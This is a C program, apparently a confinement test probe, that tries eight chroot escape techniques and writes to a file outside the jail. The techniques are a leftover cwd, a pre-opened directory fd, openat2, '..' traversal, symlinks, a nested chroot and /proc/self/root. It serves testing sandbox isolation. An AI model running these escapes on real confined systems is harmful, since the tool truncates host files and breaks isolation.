/* Try to leave a chroot and write VICTIM (a file outside TREE), one way each:
 *
 *   chroot_breakout WAY TREE VICTIM
 *
 *   cwd       chroot(TREE) from /, no chdir: VICTIM relative to the old cwd
 *   dirfd     a directory fd of / opened before chroot: openat(fd, VICTIM)
 *   openat2   the same fd with openat2(RESOLVE_IN_ROOT)
 *   dotdot    chroot(TREE), chdir("/"): "/../../.." + VICTIM
 *   symlink   TREE/up -> "../../../../../../..": "/up" + VICTIM
 *   abslink   TREE/abs -> "/": "/abs/../../.." + VICTIM
 *   rechroot  chroot(TREE), chdir("/"), chroot("sub"): "../../../.." + VICTIM
 *             from the cwd left outside the new root
 *   procroot  chroot(TREE), chdir("/"): "/proc/self/root" + VICTIM (TREE/proc
 *             being procfs)
 *
 * Exit 0: VICTIM was opened for writing and written (escaped); 1: the way
 * failed (the message says where, with the errno).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void __attribute__((noreturn)) fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    exit(1);
}

static void written(int fd, const char *what)
{
    if (fd < 0)
        fail(what);
    if (write(fd, "escaped\n", 8) != 8)
        fail("write");
    printf("escaped through %s\n", what);
    exit(0);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: chroot_breakout WAY TREE VICTIM\n");
        return 2;
    }
    const char *way = argv[1], *tree = argv[2], *victim = argv[3];
    char path[8192];
    if (chdir("/"))
        fail("chdir /");
    int before = open("/", O_DIRECTORY | O_RDONLY);
    if (before < 0)
        fail("open /");
    if (chroot(tree))
        fail("chroot");
    if (!strcmp(way, "cwd"))
        written(open(victim + 1, O_WRONLY | O_TRUNC), way);
    if (!strcmp(way, "dirfd"))
        written(openat(before, victim + 1, O_WRONLY | O_TRUNC), way);
    if (!strcmp(way, "openat2")) {
        struct open_how how = {.flags = O_WRONLY | O_TRUNC, .resolve = RESOLVE_IN_ROOT};
        written((int)syscall(SYS_openat2, before, victim, &how, sizeof how), way);
    }
    if (chdir("/"))
        fail("chdir / in the chroot");
    if (!strcmp(way, "dotdot")) {
        snprintf(path, sizeof path, "/../../../../../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "symlink")) {
        if (symlink("../../../../../../..", "/up") && errno != EEXIST)
            fail("symlink");
        snprintf(path, sizeof path, "/up%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "abslink")) {
        if (symlink("/", "/abs") && errno != EEXIST)
            fail("symlink");
        snprintf(path, sizeof path, "/abs/../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "rechroot")) {
        if (mkdir("/sub", 0755) && errno != EEXIST)
            fail("mkdir");
        if (chroot("/sub"))
            fail("chroot sub");
        snprintf(path, sizeof path, "../../../../../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "procroot")) {
        snprintf(path, sizeof path, "/proc/self/root%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    fprintf(stderr, "no way %s\n", way);
    return 2;
}
